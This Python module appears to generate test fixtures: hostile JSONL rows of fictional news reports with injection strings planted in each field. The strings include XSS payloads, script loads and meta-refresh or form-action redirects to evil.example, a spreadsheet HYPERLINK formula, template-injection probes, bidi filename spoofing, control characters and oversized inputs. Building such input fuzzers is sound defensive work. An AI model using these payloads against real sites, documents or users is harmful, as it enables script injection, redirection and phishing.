"""Two hundred different hostile reports, one a row of a JSONL file: an attack in each of several places, in as many disguises."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from itertools import product
from pathlib import Path

PLACES = ("title", "outlet", "author", "url", "quotation", "source", "place", "alone")
"""Where an attack stands."""
HALF = "\ud800half"
ATTACKS = (
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "'-alert(1)-'", "javascript:alert(1)", "</title><script>alert(1)</script>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript:alert(1))", "=HYPERLINK(\"//evil.example\",\"x\")", "{{7*7}}{% raise %}{# x #}", "${7*7}<%= 7*7 %>", "\u202etxt.exe\u202c\u2066x\u2069",
    "\u200bze\u200cro\u200d\ufeff", "W" * 10_000, "a" + "\u0301" * 400, "nul\x00nul", HALF, "\x1b[31mred\x07", "<base href=//evil.example><meta "
    "http-equiv=refresh content=0;url=//evil.example>", "</textarea></form><form action=//evil.example><button>", "]]><!--<x/>-->\u2028\u2029\uffff",
)
MANY = len(PLACES) * len(ATTACKS)
STORY = (
    "A spokesman for {source} said on Saturday that it was holding {n} soldiers of Norland in {place}. \"We hold {n} men {quotation},\" he said.\n\n{alone}"
)


def rows() -> Iterator[dict[str, str]]:
    """The reports as a table has them."""
    for n, (place, attack) in enumerate(product(PLACES, ATTACKS)):
        said = {"source": "the River Army", "place": "Karsk", "quotation": "", "alone": "", **({place: attack} if place in STORY else {})}
        row = {"title": f"Report {n}", "outlet": f"Daily {n}", "author": "A. Writer", "url": f"https://daily.example/{n}", "date": "2025-03-09"}
        yield {**row, "text": STORY.format(n=n + 12, **said), **({place: attack} if place in row else {})}


def together() -> Iterator[dict[str, str]]:
    """The same in as many reports as there are attacks, each with another attack in each place: every pair comes, at an eighth of the cost.

    Half a character, with which a line is no JSON, is left out: it would take seven others with it.
    """
    attacks = [a for a in ATTACKS if a != HALF]
    for n in range(len(attacks)):
        here = {place: attacks[(n + k) % len(attacks)] for k, place in enumerate(PLACES)}
        plain = {"source": "the River Army", "place": "Karsk", "quotation": "", "alone": "", "n": n + 12}
        told = [STORY.format(**{**plain, place: attack}) for place, attack in here.items() if place in plain]
        yield {"date": "2025-03-09", "text": "\n\n".join(told), **{place: attack for place, attack in here.items() if place not in plain}}


def written(folder: Path, found: Iterable[dict[str, str]]) -> Path:
    """Reports as a file."""
    path = folder / "hostile.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in found), encoding="ascii")
    return path
